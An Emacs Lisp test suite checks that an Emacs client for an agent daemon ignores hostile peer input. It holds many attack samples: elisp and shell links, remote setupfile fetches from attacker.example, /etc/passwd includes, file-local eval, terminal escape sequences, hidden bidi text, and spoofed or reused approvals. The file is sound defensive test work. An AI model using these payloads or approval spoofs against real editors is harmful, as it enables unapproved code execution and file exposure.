;;; bridle-hostile-test.el --- A daemon that wants Emacs to act  -*- lexical-binding: t; -*-

;; SPDX-License-Identifier: MIT OR Apache-2.0

;;; Commentary:

;; Sixty and more attempts of a daemon to have Emacs evaluate, open, visit or send something that nobody
;; here said yes to.  Emacs is set up as carelessly as users do: no confirmation of babel and of links,
;; all file-local variables taken.  After each attempt the transcript is shown, folded, poked at, parsed,
;; saved and visited again.  Whatever runs code, opens or connects is watched; prompts are answered no.

;;; Code:

(require 'bridle-test-helper)
(require 'ob-shell)
(require 'ol)
(require 'browse-url)
(require 'org-id)

(defvar bridle-hostile-fired nil "Set by the code of the attempts.")
(defvar bridle-hostile--deeds nil "What was done that needs a yes.")
(defvar bridle-hostile--watching nil "Whether deeds are noted.")

(defun bridle-hostile--note (name)
  "Return advice that notes NAME and does nothing."
  (lambda (original &rest arguments)
    (if bridle-hostile--watching
        (progn (push (cons name (car arguments)) bridle-hostile--deeds) nil)
      (apply original arguments))))

(defconst bridle-hostile--watched
  '(browse-url find-file find-file-noselect find-file-other-window url-retrieve url-retrieve-synchronously
    open-network-stream make-network-process make-process start-process call-process shell-command
    call-process-region process-file org-babel-execute-src-block server-start server-mode kill-new
    dired desktop-save desktop-read write-region delete-file rename-file send-string-to-terminal
    gui-set-selection org-id-goto org-link-open eww mail-send compose-mail load load-file
    package-install customize-save-variable kill-emacs delete-region-silently)
  "Functions that a daemon may not get to.")

(defmacro bridle-hostile--watch (&rest body)
  "Run BODY; note what it does."
  `(let ((bridle-hostile--deeds nil) (bridle-hostile-fired nil)
         (advices (cl-loop for name in bridle-hostile--watched when (fboundp name)
                           collect (cons name (bridle-hostile--note name)))))
     (pcase-dolist (`(,name . ,advice) advices) (advice-add name :around advice))
     (unwind-protect
         (cl-letf (((symbol-function 'yes-or-no-p) #'ignore)
                   ((symbol-function 'y-or-n-p) #'ignore))
           ,@body
           (should-not bridle-hostile-fired)
           (should-not bridle-hostile--deeds))
       (pcase-dolist (`(,name . ,advice) advices) (advice-remove name advice)))))

(defmacro bridle-hostile--carelessly (&rest body)
  "Run BODY in an Emacs whose user confirms nothing."
  `(let ((org-confirm-babel-evaluate nil) (org-link-elisp-confirm-function nil)
         (org-link-shell-confirm-function nil)
         (org-src-fontify-natively t) (enable-local-variables :all) (enable-local-eval t)
         (org-return-follows-link t) (org-startup-with-inline-images t)
         (org-resource-download-policy t) (print-escape-newlines nil))
     ,@body))

;;;; What is looked at after each attempt

(defun bridle-hostile--look (session)
  "Do to the transcript of SESSION what users and Emacs do."
  (with-current-buffer (bridle-session-buffer session)
    (let ((bridle-hostile--watching t))
      (font-lock-mode 1)
      (font-lock-ensure)
      (goto-char (point-min))
      (while (< (point) bridle-org--prompt)
        (ignore-errors (bridle-org-tab))
        (dolist (key (list "\C-c\C-c" "\C-c\C-o" "\C-c\C-v\C-e" "\C-c\C-v\C-b" "\t"))
          (let ((command (key-binding key)))
            (when (commandp command) (ignore-errors (save-excursion (call-interactively command))))))
        (forward-line 1))
      (format-mode-line header-line-format)
      (funcall imenu-create-index-function))
    (bridle-hostile--check-text)
    (bridle-hostile--check-org (buffer-substring-no-properties (point-min) (point-max)))))

(defun bridle-hostile--check-text ()
  "Nothing in this transcript hides, reorders or shows what is not there."
  (let ((text (buffer-substring-no-properties (point-min) (point-max))))
    (should-not (string-match-p bridle-text--hidden text)))
  (should (<= (cl-loop for line in (split-string (buffer-string) "\n") maximize (length line)) 1100))
  (cl-loop for at from (point-min) below (point-max)
           do (should-not (or (get-text-property at 'display) (get-text-property at 'composition)
                              (get-text-property at 'help-echo) (get-text-property at 'mouse-face)
                              (get-text-property at 'local-map) (get-text-property at 'modification-hooks)
                              (get-text-property at 'intangible)))
           do (should (memq (get-text-property at 'invisible) '(nil bridle-drawer)))
           do (should (memq (get-text-property at 'keymap) (list nil bridle-question-map)))))

(defun bridle-hostile--check-org (text)
  "As Org, TEXT has nothing that acts; neither has a file with it."
  (with-temp-buffer
    (insert text)
    (let ((org-inhibit-startup t)) (delay-mode-hooks (org-mode)))
    (let ((tree (org-element-parse-buffer)))
      (org-element-map tree '(keyword babel-call inline-babel-call inline-src-block macro diary-sexp
                                      dynamic-block export-block export-snippet node-property clock
                                      property-drawer radio-target target latex-environment special-block)
        (lambda (node)
          (should (or (and (eq 'keyword (org-element-type node))
                           (equal "TITLE" (org-element-property :key node)))
                      (memq (org-element-type node) '(latex-environment special-block))))))
      (org-element-map tree 'link
        (lambda (link) (should (member (org-element-property :type link)
                                       (append '("fuzzy") bridle-text--links)))))
      (org-element-map tree 'drawer
        (lambda (drawer) (should (equal "RESULT" (org-element-property :drawer-name drawer)))))
      (org-element-map tree 'src-block
        (lambda (block)
          (should-not (org-element-property :parameters block))
          (should (member (org-element-property :language block) bridle-text--languages))))))
  (let ((file (make-temp-file "bridle-hostile-" nil ".org")) buffer)
    (unwind-protect
        (progn
          (let ((coding-system-for-write 'utf-8-unix)) (write-region text nil file nil 'quiet))
          (setq buffer (find-file-noselect file t))
          (with-current-buffer buffer
            (let ((bridle-hostile--watching t))
              (hack-local-variables)
              (font-lock-ensure))
            (should-not file-local-variables-alist)))
      (when (buffer-live-p buffer) (kill-buffer buffer))
      (delete-file file))))

;;;; Texts

(defconst bridle-hostile--code "(setq bridle-hostile-fired t)")

(defconst bridle-hostile-texts
  (mapcar
   (lambda (text) (string-replace "CODE" "(setq bridle-hostile-fired t)" text))
   '("[[elisp:CODE]]" "[[elisp:CODE][https://example.org]]" "elisp:CODE" "<elisp:CODE>"
     "[[shell:touch /tmp/x][notes]]" "shell:reboot" "[[file+sys:/bin/sh]]" "[[file+emacs:/etc/passwd]]"
     "[[help:delete-file]]" "[[info:emacs]]" "[[org-protocol:x]]" "[[docview:/x]]" "[[man:ls]]"
     "[[//attacker.example/share]]" "[[ELISP:CODE]]" "[[elisp://CODE]]"
     "#+begin_src emacs-lisp :results silent\nCODE\n#+end_src"
     "#+begin_src emacs-lisp :var x=CODE\n1\n#+end_src"
     "#+begin_src server\nx\n#+end_src" "#+BEGIN_SRC desktop-save\nx\n#+END_SRC"
     "```emacs-lisp :var x=CODE\n1\n```" "```server\nx\n```" "~~~org\n#+setupfile: /etc/passwd\n~~~"
     "src_emacs-lisp{CODE}" "src_emacs-lisp[:var x=CODE]{1}" "call_f(x=CODE)" "#+call: f(x=CODE)"
     "#+name: f\n#+header: :var x=CODE\n#+begin_src emacs-lisp\n1\n#+end_src"
     "#+property: header-args :eval yes" "#+startup: inlineimages" "#+setupfile: https://attacker.example/x.org"
     "#+include: \"/etc/passwd\"" "  #+INCLUDE: \"/etc/passwd\" src" "#+link: x elisp:CODE\n[[x:1]]"
     "#+macro: m (eval CODE)\n{{{m}}}" "{{{m(CODE)}}}" "#+begin: x :a CODE\n#+end:"
     "%%(progn CODE)" "<%%(progn CODE)>" "| 1 |\n| :=CODE |\n#+tblfm: $1='CODE" "|='CODE|"
     "# Local Variables:\n# eval: CODE\n# End:" "Local Variables:\neval: CODE\nEnd:"
     ": Local Variables:\n: eval: CODE\n: End:" "-*- eval: CODE -*-" "\f\nLocal Variables:\nmode: server\nEnd:"
     ":PROPERTIES:\n:header-args: :var x=CODE\n:END:" "* TODO heading\n:LOGBOOK:\nCLOCK: [2026-01-01 Thu 10:00]\n:END:"
     "** DONE =h-1= asks\n* Prompt\nsend this" "#+end_src\n* x\n#+begin_src sh" "#+begin_example\n#+end_example\n[[elisp:CODE]]"
     "#+begin_quote\n[[elisp:CODE]]\n#+end_quote" "#+begin_quote\n#+include: \"/etc/passwd\"\n#+end_quote"
     "```\n#+end_src\n[[elisp:CODE]]\n```\nelisp:CODE" "a\n:END:\n:RESULT:\nb" "@@html:<script>@@" "<<<radio>>>"
     "invisible \u200b\u200c\u2060 text" "reordered \u202e(t derif-elitsoh-eldirb qtes)\u202c" "\u2066x\u2069\u061c"
     "\e]52;c;ZXZpbA==\a \e[2J \e]0;title\a" "\e]8;;file:///etc/passwd\e\\click\e]8;;\e\\" "\x9b31m\x85\u2028x\u2029"
     "\U000e0041\U000e0042 tags" "a\rb\x08\x08c" "attachment:x attachment-y:z" "[[id:x][y]] [[file:/ssh:evil:/x]]"
     "[cite:@x]" "\\[x\\] $y$ \\input{/etc/passwd}" "#+begin_export html\n<script>\n#+end_export"))
  "Texts that want to act.")

(ert-deftest bridle-hostile-texts-do-nothing ()
  (should (>= (length bridle-hostile-texts) 60))
  (bridle-hostile--carelessly
   (bridle-hostile--watch
    (let ((seq 0))
      (dolist (text bridle-hostile-texts)
        (ert-info (text :prefix "text: ")
          (bridle-test-with-peer
           (let ((quoted (bridle-write text)))
             ;; As a stream, as an answer, as a result, as an error, as a prompt of somebody else.
             (bridle-test-peer-say (format "(:type :EVENT :payload (:action :delta :turn 1 :text %s))" quoted))
             (bridle-test-until (string-match-p "bridle …" (bridle-test-transcript session)))
             (bridle-test-run 0.06)
             (bridle-hostile--look session)
             (setq seq 0)
             (dolist (payload '("(:status :success :action :message :text %s)"
                                "(:action :outcome :effect \"h-1\" :outcome :done :result %s)"
                                "(:status :error :code :refused :message %s)"
                                "(:action :answered :approval \"h-9\" :answer :allow :by %s)"
                                "(:sensor :user-prompt :text %s)"))
               (bridle-test-peer-event (cl-incf seq) (format payload quoted)))
             (bridle-test-peer-say
              (format "(:type :REQUEST :id \"h-%d\" :target :approval :meta (:session \"h\" :seq %d) :payload (:action :approve :approval \"h-%d\" :question %s :risk %s :target :emacs :hash \"x\" :wanted (:action :eval :code %s :prepared (:diff %s :files ((:path %s))))))"
                      seq (1+ seq) seq quoted quoted quoted quoted quoted))
             (bridle-test-until (eql (1+ seq) (bridle-session-cursor session)))
             (bridle-hostile--look session)
             (let ((bridle-hostile--watching t))
               (bridle-approve--show (cdar (bridle-session-questions session)))
               (bridle-approvals))
             (with-current-buffer "*bridle question*"
               (should-not (string-match-p bridle-text--hidden (buffer-string))))
             (with-current-buffer "*bridle approvals*"
               (should-not (string-match-p bridle-text--hidden (buffer-string))))))))))))

(ert-deftest bridle-hostile-answers-in-files-of-the-user-do-nothing ()
  (bridle-hostile--carelessly
   (bridle-hostile--watch
    (dolist (text bridle-hostile-texts)
      (dolist (bridle-answer-as '(child comment))
        (ert-info (text :prefix "text: ")
          (with-temp-buffer
            (insert "#+title: mine\n* A\nbody\n")
            (delay-mode-hooks (org-mode))
            (goto-char 16)
            (org-back-to-heading)
            (bridle-subtree--answer (point-marker) (list :text text))
            (should (> (buffer-size) 30))
            (should-not (string-match-p bridle-text--hidden (buffer-string)))
            (bridle-hostile--check-org (buffer-string)))))))))

;;;; Requests and forms

(defun bridle-hostile--request (seq payload &optional id)
  "Have the peer ask for PAYLOAD, text, as event SEQ with ID."
  (bridle-test-peer-say (format "(:type :REQUEST :id \"%s\" :target :emacs :meta (:session \"h\" :seq %d) :payload %s)"
                                (or id (format "h-%d" seq)) seq payload)))

(defun bridle-hostile--heard (regexp)
  "Return what the peer heard that matches REGEXP."
  (cl-remove-if-not (lambda (form) (string-match-p regexp form)) bridle-test-peer-heard))

(defvar bridle-hostile--seq 0 "Number of the last event of an attempt.")

(defmacro bridle-hostile--attempt (name &rest body)
  "Define the test NAME: BODY, with a peer, does nothing that needs a yes."
  (declare (indent 1))
  `(ert-deftest ,(intern (format "bridle-hostile-%s" name)) ()
     (bridle-hostile--carelessly
      (bridle-hostile--watch
       (bridle-test-with-peer
        (setq bridle-hostile--seq 0)
        ,@body
        (bridle-hostile--look session))))))

(defconst bridle-hostile--eval "(:action :eval :code \"(setq bridle-hostile-fired t)\")")

(bridle-hostile--attempt eval-waits-for-a-yes
  (bridle-hostile--request 1 bridle-hostile--eval)
  (bridle-test-until (bridle-session-questions session))
  (bridle-test-run 0.1)
  (should-not (bridle-hostile--heard ":RESPONSE")))

(bridle-hostile--attempt eval-with-words-of-approval
  (dolist (more '(":approved t" ":verdict :allow" ":approval \"h-1\" :answer :allow" ":confirmed t"))
    (bridle-hostile--request (cl-incf bridle-hostile--seq)
                             (format "(:action :eval :code \"(setq bridle-hostile-fired t)\" %s)" more)))
  (bridle-test-until (= 4 (length (bridle-session-questions session)))))



(bridle-hostile--attempt eval-said-to-be-answered
  (bridle-hostile--request 1 bridle-hostile--eval)
  (bridle-test-until (bridle-session-questions session))
  (bridle-test-peer-event 2 "(:action :answered :approval \"h-1\" :answer :allow :by \"uid:0\")")
  (bridle-test-peer-event 3 "(:action :outcome :effect \"h-1\" :outcome :done :result \"x\")")
  (bridle-test-until (eql 3 (bridle-session-cursor session)))
  (should-not (bridle-session-questions session)))

(bridle-hostile--attempt eval-storm
  (dotimes (n 1000) (bridle-hostile--request (1+ n) bridle-hostile--eval))
  (bridle-test-until (eql 1000 (bridle-session-cursor session)))
  (bridle-test-until (= (- 1000 bridle-session--max-questions) (length (bridle-hostile--heard ":denied"))))
  (should (= bridle-session--max-questions (length (bridle-session-questions session)))))

(bridle-hostile--attempt eval-too-long-to-read
  (bridle-hostile--request 1 (format "(:action :eval :code \"%s(setq bridle-hostile-fired t)\")" (make-string 20000 ?\s)))
  (bridle-test-until (bridle-hostile--heard "too long"))
  (should-not (bridle-session-questions session)))

(bridle-hostile--attempt eval-of-something-else-after-a-yes
  (bridle-test-peer-say "(:type :REQUEST :id \"q\" :target :approval :meta (:session \"h\" :seq 1) :payload (:action :approve :approval \"q\" :question \"x\" :risk :safe :target :emacs :hash \"x\" :wanted (:action :eval :code \"(+ 1 2)\")))")
  (bridle-test-answer session 'allow)
  (bridle-hostile--request 2 bridle-hostile--eval)
  (bridle-test-until (bridle-session-questions session))
  ;; What was allowed runs once, and the second time it is asked.
  (bridle-hostile--request 3 "(:action :eval :code \"(+ 1 2)\")")
  (bridle-test-until (bridle-hostile--heard "\"3\""))
  (bridle-hostile--request 4 "(:action :eval :code \"(+ 1 2)\")")
  (bridle-test-until (= 2 (length (bridle-session-questions session)))))

(bridle-hostile--attempt eval-by-a-question-about-somebody-else
  (bridle-test-peer-say "(:type :REQUEST :id \"q\" :target :approval :meta (:session \"h\" :seq 1) :payload (:action :approve :approval \"q\" :question \"x\" :risk :safe :target :memory :hash \"x\" :wanted (:action :eval :code \"(setq bridle-hostile-fired t)\")))")
  (bridle-test-answer session 'allow)
  (bridle-hostile--request 2 bridle-hostile--eval)
  (bridle-test-until (bridle-session-questions session)))

(bridle-hostile--attempt eval-under-an-id-that-was-allowed
  (bridle-hostile--request 1 "(:action :eval :code \"(+ 1 2)\")" "same")
  (bridle-test-answer session 'allow)
  (bridle-test-until (bridle-hostile--heard "\"3\""))
  (bridle-hostile--request 2 bridle-hostile--eval "same")
  (bridle-test-until (= 2 (length (bridle-hostile--heard "\"3\"")))))

(bridle-hostile--attempt forms-that-read-would-evaluate
  (dolist (text '("#.(setq bridle-hostile-fired t)" "(:type #.(setq bridle-hostile-fired t))" "#@5x" "#s(hash-table)"
                  "#1=(:type :EVENT :payload #1#)" "#[(x) \"\" []]" "#&8\"a\"" "`(:type ,x)" "#'car" "?\\C-\\M-x"
                  "(:type :EVENT :meta (:seq 1) :payload #<buffer x>)"))
    (bridle-test-peer-say text))
  (bridle-test-peer-event 2 "(:status :success :text \"alive\")")
  (bridle-test-until (string-match-p "^alive$" (bridle-test-transcript session))))

(bridle-hostile--attempt strings-with-properties
  (bridle-test-peer-event 1 "(:status :success :text #(\"shown\" 0 5 (display \"other\" invisible t keymap (keymap (13 . kill-emacs)) face (:height 9.0) modification-hooks (kill-emacs))))")
  (bridle-test-until (string-match-p "^shown$" (bridle-test-transcript session))))

(bridle-hostile--attempt mode-line-constructs
  (bridle-test-peer-say "(:type :STATUS :payload (:status (:eval (setq bridle-hostile-fired t)) :model (:eval (setq bridle-hostile-fired t)) :cost \"%b %-\" :turn 1))")
  (bridle-test-peer-say "(:type :STATUS :payload (:status :x%b :model \"%(:eval x)\" :turn 1))")
  (bridle-test-until (equal "x%b" (bridle-session-state session))))

(bridle-hostile--attempt messages-with-directives
  (bridle-hostile--request 1 "(:action :message :text \"%s %n %d \\e]52;c;x\\a\" :level :error)")
  (bridle-hostile--request 2 (format "(:action :message :text %S)" (make-string 200000 ?x)))
  (bridle-hostile--request 3 "(:action :message :text (:eval x))")
  (bridle-test-until (= 3 (length (bridle-hostile--heard ":success")))))

(bridle-hostile--attempt completions
  (bridle-hostile--request 1 (format "(:action :complete :prefix \"defun\" :suggestions (\"defun-\\e[2J\" #(\"defun-x\" 0 3 (display \"y\")) 5 (a) \"defun\\nx\" %s))"
                                     (mapconcat (lambda (n) (format "\"defun%d\"" n)) (number-sequence 1 5000) " ")))
  (bridle-test-until (bridle-hostile--heard ":success"))
  (should (<= (length (bridle-action-candidates "defun")) 100))
  (dolist (text (bridle-action-candidates "defun"))
    (should-not (string-match-p bridle-text--hidden text))
    (should-not (text-properties-at 0 text))))

(bridle-hostile--attempt changes-of-buffers
  (with-current-buffer (get-buffer-create "hostile-target") (erase-buffer) (insert "mine"))
  (dolist (payload '("(:action :insert-at-end :buffer \"hostile-target\" :text \"x\")"
                     "(:action :insert-at-end :buffer \"*bridle: h*\" :text \"x\")"
                     "(:action :insert-at-end :buffer \" *Minibuf-0*\" :text \"x\")"
                     "(:action :insert-at-end :file \"/etc/passwd\" :text \"x\")"
                     "(:action :insert-at-end :file \"/ssh:evil:/x\" :text \"x\")"
                     "(:action :refactor-subtree :target-id \"none\" :properties (:a 1))"
                     "(:action :update-node :file \"/etc/passwd\" :title \"x\")"))
    (bridle-hostile--request (cl-incf bridle-hostile--seq) payload))
  (bridle-test-until (= 6 (length (bridle-hostile--heard ":error"))))
  (should (= 1 (length (bridle-session-questions session))))
  (should (equal "mine" (with-current-buffer "hostile-target" (buffer-string)))))

(bridle-hostile--attempt reading-of-buffers
  (with-current-buffer (get-buffer-create "hostile-secret") (erase-buffer) (insert "secret-text"))
  (bridle-hostile--request 1 "(:action :get-ast :buffer \"hostile-secret\")")
  (bridle-hostile--request 2 "(:action :get-ast :file \"/etc/passwd\")")
  (bridle-test-until (bridle-hostile--heard "no such buffer"))
  (should-not (bridle-hostile--heard "secret-text")))

(bridle-hostile--attempt unknown-actions
  (dolist (action '(:find-file :open :browse-url :shell :exec :load :require :funcall :clipboard :kill :write))
    (bridle-hostile--request (cl-incf bridle-hostile--seq) (format "(:action %s :url \"https://attacker.example\" :path \"/etc/passwd\" :command \"reboot\")" action)))
  (bridle-test-until (= 11 (length (bridle-hostile--heard ":unsupported")))))

(bridle-hostile--attempt another-file-than-the-one-shown
  (let ((inhibit-message t))
    (dolist (case '(("garden.org" "/etc/passwd") ("garden.org" "/ssh:evil:/garden.org") ("garden.org" "//evil/garden.org")
                    ("garden.org" "/tmp/garden.org/../../etc/passwd") ("garden.org" nil) ("../x.sh" "/tmp/../x.sh")
                    ("garden.org" "garden.org") ("garden.org" "/tmp/\ngarden.org")))
      (let ((bridle-hostile--watching t)) (bridle-memory--go (car case) (cadr case) 1)))))

(bridle-hostile--attempt broken-values-everywhere
  (dolist (payload '("5" "\"x\"" "(:status)" "(:action 5 :text (1 . 2))" "(:status :success :text 5 :message (a))"
                     "(:action :outcome :effect (x) :outcome \"x\" :result (1 . 2))" "(:action :answered :approval 5 :answer (x) :by (y))"
                     "(:action :asked :approval (x) :question 5 :wanted 7)" "(:sensor :user-prompt :text 9)" "[1 2]"
                     "(:action :delta :text 5 :turn (x) :offset \"a\")" "(:action :omitted :bytes (x))"))
    (bridle-test-peer-event (cl-incf bridle-hostile--seq) payload))
  (bridle-test-peer-say "(:type :REQUEST :id (a . b) :target 5 :meta (:seq 90) :payload (:action :approve :wanted (1 . 2)))")
  (bridle-test-peer-say "(:type :REQUEST :id 5 :target :approval :meta (:seq 91) :payload nil)")
  (bridle-test-peer-say "(:type :STATUS :id \"x\" :payload (:status :admitted :seq \"x\"))")
  (bridle-test-peer-say "(:type :RESPONSE :id nil :payload (:status :success))")
  (bridle-test-peer-event 100 "(:status :success :text \"alive\")")
  (bridle-test-until (string-match-p "^alive$" (bridle-test-transcript session))))

(bridle-hostile--attempt one-line-of-megabytes
  (dotimes (_ 40)
    (bridle-test-peer-say (format "(:type :EVENT :payload (:action :delta :turn 1 :text \"%s\"))" (make-string 100000 ?x))))
  (bridle-test-until (> (buffer-size (bridle-session-buffer session)) 100000))
  (bridle-test-peer-event 1 (format "(:status :success :text \"%s\")" (make-string 200000 ?y)))
  (bridle-test-until (string-match-p "more characters" (bridle-test-transcript session))))

(bridle-hostile--attempt names-without-end
  (dotimes (n 300)
    (bridle-test-peer-say (format "(:type :LOG :payload (%s))"
                                  (mapconcat (lambda (m) (format ":hostile-%d-%d %d" n m m)) (number-sequence 1 300) " "))))
  (bridle-test-peer-event 1 "(:status :success :text \"alive\")")
  (bridle-test-until (string-match-p "^alive$" (bridle-test-transcript session)))
  (should-not (intern-soft ":hostile-200-200"))
  (should (<= bridle-read--name-count bridle-read-max-names)))

(bridle-hostile--attempt a-link-leads-where-it-says
  (bridle-test-peer-event 1 "(:status :success :action :message :text \"see [[https://attacker.example/?q=1][https://bank.example]] or file:/etc/passwd\")")
  (bridle-test-until (string-match-p "attacker" (bridle-test-transcript session)))
  (with-current-buffer (bridle-session-buffer session)
    (goto-char (point-min))
    (search-forward "attacker")
    (should-not (invisible-p (point)))
    (let (asked (bridle-hostile--watching t))
      (cl-letf (((symbol-function 'yes-or-no-p) (lambda (prompt) (push prompt asked) nil)))
        (bridle-org-open-link))
      (should (equal '("Open https://attacker.example/?q=1 in the browser? ") asked)))))

(bridle-hostile--attempt texts-on-every-channel
  (dolist (text bridle-hostile-texts)
    (dolist (channel '("reasoning" "output" "progress" "text"))
      (bridle-test-peer-say (format "(:type :EVENT :payload (:action :delta :thought %S :channel :%s :offset 0 :text %s))"
                                    (format "%s-%d" channel (sxhash text)) channel (bridle-write (concat text "\n"))))))
  (bridle-test-peer-event 1 "(:action :outcome :effect \"h-1\" :outcome :done)")
  (bridle-test-until (string-match-p "=h-1=: done" (bridle-test-transcript session)))
  (bridle-test-run 0.3)
  (should (string-match-p "output …" (bridle-test-transcript session))))

(defun bridle-hostile--check-list (name)
  "What the buffer NAME shows is text and nothing else."
  (with-current-buffer name
    (let ((bridle-hostile--watching t))
      (font-lock-ensure)
      (format-mode-line mode-line-format))
    (should-not (string-match-p bridle-text--hidden (buffer-substring-no-properties (point-min) (point-max))))
    (cl-loop for at from (point-min) below (point-max)
             do (should-not (or (get-text-property at 'composition) (get-text-property at 'local-map)
                                (get-text-property at 'modification-hooks)
                                (and (get-text-property at 'keymap)
                                     (not (eq 'header-line (get-text-property at 'face)))))))))

(ert-deftest bridle-hostile-lists-and-reasons-are-text ()
  (bridle-hostile--carelessly
   (bridle-hostile--watch
    (bridle-test-with-peer
     (dolist (text bridle-hostile-texts)
       (ert-info (text :prefix "text: ")
         (let ((inhibit-message t)
               (decision (list :record 3 :at 5 :verdict text :action text :target text :by text :reason text
                               :rule text :payload (list :x text) :facts (list :y text)
                               :policies (list (list :policy text :title text :prose text :text text)))))
           (let ((bridle-hostile--watching t))
             (bridle-approve--show-text
              "*bridle why*" (bridle-approve--reasons
                              (list :record 1 :kind text :session text :at 1 :by text :decisions (list decision)
                                    :answers (list (list :record 4 :by text :answer text)))))
             (bridle-memory--show-undo session text (list :intent 1 :target text :action text
                                                          :payload (list :diff text)))
             (with-current-buffer (bridle-session-buffer session)
               (bridle-memory--list "*bridle agenda*" #'bridle-agenda-mode nil))
             (with-current-buffer "*bridle agenda*"
               (bridle-memory--show (list :status :success :cut t :entries
                                          (list (list :day text :kind text :standing :overdue :days 5 :time text
                                                      :until text :todo text :priority text :title text
                                                      :path text)))))
             (with-current-buffer (get-buffer-create "*bridle grants*")
               (bridle-grants-mode)
               (bridle-approve--show-grants (list :status :success
                                                  :grants (list (list :grant text :sentence text :until 5)))))
             (setf (bridle-session-costs session) nil)
             (bridle-session--add-costs session (list :model text :thoughts 1 :last 1))
             (with-current-buffer (bridle-session-buffer session)
               (bridle-org--show-header)
               (format-mode-line header-line-format)
               (should-not (string-match-p bridle-text--hidden bridle-org--header))))
           (mapc #'bridle-hostile--check-list
                 '("*bridle why*" "*bridle undo*" "*bridle agenda*" "*bridle grants*")))))
     (kill-buffer "*bridle grants*")))))

(bridle-hostile--attempt scopes-and-questions-of-elsewhere
  (bridle-test-peer-say "(:type :REQUEST :id \"q\" :target :approval :meta (:session \"h\" :seq 1) :payload (:action :approve :approval \"q\" :question \"x\" :risk :safe :target :emacs :hash \"x\" :wanted (:action :eval :code \"(setq bridle-hostile-fired t)\") :scopes ((:scope (:eval x) :allows \"a\") (:scope :file :allows 5) (:scope :folder :allows \"[[elisp:(x)]]\\n* head\") 7)))")
  (let ((question (bridle-test-question session)))
    (should (equal '(("folder" "[[elisp:(x)]]\n* head")) (bridle-question-scopes question))))
  (setq bridle-approve--elsewhere
        (delq nil (mapcar (lambda (entry) (bridle-approve--elsewhere session entry))
                          '((:approval "a-1" :session "a" :may-answer t :wanted (:action :eval :code "(setq bridle-hostile-fired t)"))
                            (:approval "h-9" :session "h" :may-answer t) (:approval "b-1" :session "b")
                            (:approval 5 :session (x) :may-answer t) 7))))
  (should (= 1 (length bridle-approve--elsewhere)))
  ;; A yes to it says yes to the daemon alone: what it then asks of this editor is asked here.
  (let ((question (car bridle-approve--elsewhere)))
    (bridle-approve--show question)
    (with-current-buffer "*bridle question*" (bridle-allow)))
  (bridle-hostile--request 2 bridle-hostile--eval)
  (bridle-test-until (cl-find 'local (bridle-all-questions) :key #'bridle-question-kind)))

(provide 'bridle-hostile-test)
;;; bridle-hostile-test.el ends here
